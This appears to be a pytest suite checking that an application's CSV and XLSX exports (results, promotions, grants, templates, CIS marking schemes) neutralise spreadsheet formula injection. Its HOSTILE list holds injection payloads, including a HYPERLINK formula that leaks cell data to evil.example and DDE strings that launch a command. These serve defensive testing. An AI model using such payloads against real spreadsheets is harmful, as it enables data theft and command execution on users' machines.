"""Issue 14 row 12: no spreadsheet the product writes holds a live formula made of data.

Hostile text goes into every text field of each export (results, schemes, templates, promotions,
grants); CSV cells that a spreadsheet would run start with ``'`` (formats.md) and XLSX cells are
text cells, whatever they start with. The only formulas are the CIS sheet's own sums.
"""
from __future__ import annotations

import csv
import io
from decimal import Decimal
from itertools import cycle

from openpyxl import load_workbook

from app.extensions import db
from app.grants.models import LedgerLine
from app.grants.services import export_bytes
from app.marking.cis import read_cis, write_cis
from app.promotion.services import approve, propose
from app.tabular import FORMULA_STARTS, xlsx_template
from scoring.marks import Aspect, Criterion, Scheme, Standard, SubCriterion
from tests.marking.builders import run
from tests.promotion.world import promotion_world
from tests.results.test_results_cli import marked

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0",
           "=1+2"]
CIS_FORMULAS = ("=SUM(", "=SUMIF(", "=ABS(")


def csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def assert_csv_safe(data: bytes, expected: list[str]) -> None:
    cells = csv_cells(data)
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    for text in expected:
        assert "'" + text in cells, text


def assert_xlsx_safe(data: bytes, expected: list[str], formulas: tuple[str, ...] = ()) -> None:
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    live = [c.coordinate for c in cells if c.data_type == "f" and not str(c.value).startswith(formulas)]
    assert live == []
    texts = {c.value for c in cells if c.data_type == "s"}
    for text in expected:
        assert text in texts or "'" + text in texts, text


def test_results_exports(make, tmp_path):
    world = marked(make, tmp_path)
    lead = world.competitor("W-01").lead
    lead.person.name, lead.unit.code = HOSTILE[0], HOSTILE[1]
    world.competitor("W-02").lead.person.name = HOSTILE[2]
    world.competitor("W-03").lead.person.name = HOSTILE[3]
    db.session.commit()
    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"standings.{fmt}"
        assert run("results", "export", "EV1", "--format", fmt, "--output", str(out)).exit_code == 0
        check = assert_csv_safe if fmt == "csv" else assert_xlsx_safe
        check(out.read_bytes(), HOSTILE[:4])


def test_promotion_exports(make, tmp_path):
    world = promotion_world(make)
    approve([p for p in propose(world.event) if p.proposed_level is not None])
    for bib, text in zip(("W-01", "W-02"), HOSTILE, strict=False):
        world.competitor(bib).lead.person.name = text
    world.weld.occupation_name = HOSTILE[4]
    db.session.commit()
    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"p.{fmt}"
        assert run("promotion", "export", "EV1", "--format", fmt, "--output", str(out)).exit_code == 0
        check = assert_csv_safe if fmt == "csv" else assert_xlsx_safe
        check(out.read_bytes(), [HOSTILE[0], HOSTILE[1], HOSTILE[4]])


def test_grants_exports():
    texts = cycle(HOSTILE)
    lines = []
    for amount in (Decimal("100.00"), None):
        line = LedgerLine(policy="p", payee=next(texts), rule=next(texts), trigger=next(texts), amount=amount,
                          computed_amount=amount, explanation={"template": next(texts)})
        lines.append(line)
    assert_csv_safe(export_bytes(lines, "csv", "p"), [line.payee for line in lines])
    assert_xlsx_safe(export_bytes(lines, "xlsx", "p"), [line.payee for line in lines])


def test_templates_hold_no_formula():
    assert_xlsx_safe(xlsx_template(["contestant_no", "name"]), ["contestant_no"])


def test_the_cis_scheme_writes_hostile_text_as_text_and_reads_it_back_unchanged():
    h = cycle(HOSTILE)
    judged = Aspect("A1.1", "J", next(h), Decimal("3.00"), "1", extra=next(h),
                    descriptors=tuple(next(h) for _ in range(4)))
    measured = Aspect("A1.2", "M", next(h), Decimal("2.00"), "1", requirement=next(h), extra=next(h))
    scheme = Scheme((Standard("1", next(h), Decimal("5.00")),),
                    (Criterion("A", next(h), (SubCriterion("A1", next(h), 1, (judged, measured)),), None),))
    data = write_cis(scheme, next(h))
    assert_xlsx_safe(data, HOSTILE, formulas=CIS_FORMULAS)
    read, title = read_cis(data)
    assert title in HOSTILE
    assert read.criteria[0].sub_criteria[0].aspects == (judged, measured)
    assert read.standards[0].name == scheme.standards[0].name
